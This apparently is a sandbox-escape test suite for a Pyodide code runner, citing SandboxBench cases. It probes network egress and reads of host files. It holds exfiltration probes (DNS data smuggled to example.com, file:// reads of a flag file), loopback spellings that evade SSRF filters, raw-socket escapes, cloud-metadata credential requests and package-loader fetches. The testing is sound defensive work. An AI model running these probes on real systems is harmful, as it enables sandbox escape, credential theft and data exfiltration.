# Programs that try to reach a server that no rule names.

# %% requests of Python
# Asks the server by every client of the standard library.
# Source: SandboxBench: exfiltration by HTTP
import http.client, socket, ssl, urllib.request, xmlrpc.client
host = ("127.0.0.1", T.port)
def http_client():
    connection = http.client.HTTPConnection(*host, timeout=1)
    connection.request("GET", "/")
    return connection.getresponse().read()
def raw():
    with socket.create_connection(host, 1) as stream:
        stream.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return stream.recv(4096)
tries(
    lambda: urllib.request.urlopen(URL, timeout=1).read(),
    http_client,
    raw,
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", host),
    lambda: xmlrpc.client.ServerProxy(URL).x(),
    lambda: urllib.request.build_opener(urllib.request.ProxyHandler({"http": URL})).open("http://example.com", timeout=1).read(),
    lambda: urllib.request.urlopen("file://" + T.file).read(),
    lambda: urllib.request.urlopen(f"ftp://127.0.0.1:{T.port}/flag", timeout=1).read(),
    lambda: urllib.request.urlopen("data:,x").read(),
)

# %% requests of JavaScript
# Asks the server by fetch, sockets and everything that loads.
# Source: SandboxBench: exfiltration past a proxy
from pyodide.http import pyfetch
urls = [URL, "file://" + T.file, "blob:x", "ws://127.0.0.1:%d" % T.port, "//127.0.0.1:%d" % T.port]
await tries_async(*[(lambda url=url: pyfetch(url)) for url in urls])
await tries_async(*[(lambda url=url: js("async (u) => await (await fetch(u)).text()", url)) for url in urls])
for code in ("new XMLHttpRequest()", "new WebSocket(u)", "new EventSource(u)", "new Worker(u)", "navigator.sendBeacon(u)", "new WebTransport(u)", "Deno.connect({port: 1})", "Deno.core.ops.op_net_connect_tcp", "new Request(u, {client: 1})"):
    tries(lambda: js("(u) => String(" + code + ")", URL))

# %% spellings of the loopback
# Spells the address in every form that a check may miss.
import urllib.request
spellings = ["localhost", "127.1", "0", "0.0.0.0", "2130706433", "0x7f000001", "017700000001", "127.0.0.1.", "[::1]", "[::ffff:127.0.0.1]", "[::]", "[::127.0.0.1]", "127.0.0.1%00.example.com", "localhost.localdomain", "ⓛocalhost", "127。0。0。1", "user@127.0.0.1", "example.com@127.0.0.1", "[64:ff9b::7f00:1]", "127.0.0.1.nip.io", "localtest.me"]
tries(*[(lambda name=name: urllib.request.urlopen(f"http://{name}:{T.port}/", timeout=1).read()) for name in spellings])
await tries_async(*[(lambda name=name: js("async (u) => await (await fetch(u)).text()", f"http://{name}:{T.port}/")) for name in spellings])

# %% name look-ups
# Sends data out in the names that it asks for.
# Source: SandboxBench: exfiltration by DNS
import socket
stolen = "x" * 32
tries(
    lambda: socket.getaddrinfo(f"{stolen}.example.com", 80),
    lambda: socket.gethostbyname("localhost"),
    lambda: socket.gethostbyaddr("127.0.0.1"),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes(12), ("127.0.0.1", T.port)),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes(12), ("8.8.8.8", 53)),
)

# %% other sockets
# Opens sockets of Unix, netlink, packets, Bluetooth and of a virtual machine.
# Source: SandboxEscapeBench: packet sockets (CVE-2020-14386)
import socket
def connect(family, type, address):
    stream = socket.socket(family, type)
    stream.settimeout(1)
    stream.connect(address)
    return stream.recv(4096)
tries(
    lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + T.socket),
    lambda: connect(socket.AF_UNIX, socket.SOCK_DGRAM, "\0" + T.socket),
    lambda: connect(getattr(socket, "AF_PACKET", 17), socket.SOCK_RAW, ("lo", 3)),
    lambda: connect(getattr(socket, "AF_NETLINK", 16), socket.SOCK_RAW, (0, 0)),
    lambda: connect(getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM, (2, T.port)),
    lambda: connect(getattr(socket, "AF_ALG", 38), socket.SOCK_SEQPACKET, ("hash", "sha256")),
    lambda: socket.fromfd(0, socket.AF_UNIX, socket.SOCK_STREAM).recv(4096),
    lambda: socket.socketpair()[0].sendmsg([b"x"], [(socket.SOL_SOCKET, 1, bytes(4))]),
    lambda: socket.socket(socket.AF_INET).bind(("0.0.0.0", 0)),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
)
for descriptor in range(16):
    tries(lambda: socket.socket(fileno=descriptor).recv(4096, socket.MSG_DONTWAIT if hasattr(socket, "MSG_DONTWAIT") else 64))

# %% metadata of a cloud
# Asks the addresses at which machines in a cloud have credentials.
# Source: SandboxBench: discovery by a metadata service
import urllib.request
for host in ("169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal", "100.100.100.200", "169.254.170.2", "0xa9fea9fe", "[::ffff:169.254.169.254]"):
    tries(lambda: urllib.request.urlopen(urllib.request.Request(f"http://{host}/latest/meta-data/", headers={"Metadata-Flavor": "Google"}), timeout=1).read())

# %% packages as a way out
# Has the package loader fetch from the server, by names, URLs, indexes and options of pip.
import importlib
tries(lambda: __import__("micropip"), lambda: __import__("pip"), lambda: __import__("flag_of_the_host"), lambda: importlib.import_module("../" + T.file))
import pyodide_js
await tries_async(
    lambda: pyodide_js.loadPackage(URL),
    lambda: pyodide_js.loadPackage(f"{URL}.whl"),
    lambda: pyodide_js.loadPackage("file://" + T.file),
    lambda: pyodide_js.loadPackage(f"--index-url={URL}"),
    lambda: pyodide_js.loadPackagesFromImports("import numpy"),
    lambda: js("async (u) => pyodide._api.packageIndexURL = u", URL),
    lambda: js("async (u) => await pyodide._api.loadBinaryFile(u)", URL),
    lambda: js("async (u) => await pyodide._api.loadBinaryFile(u)", T.file),
    lambda: js("async (u) => await pyodide._api.loadDynlib(u)", T.file),
    lambda: js("async (u) => await pyodide._api.initializePackageIndex(u)", URL),
)
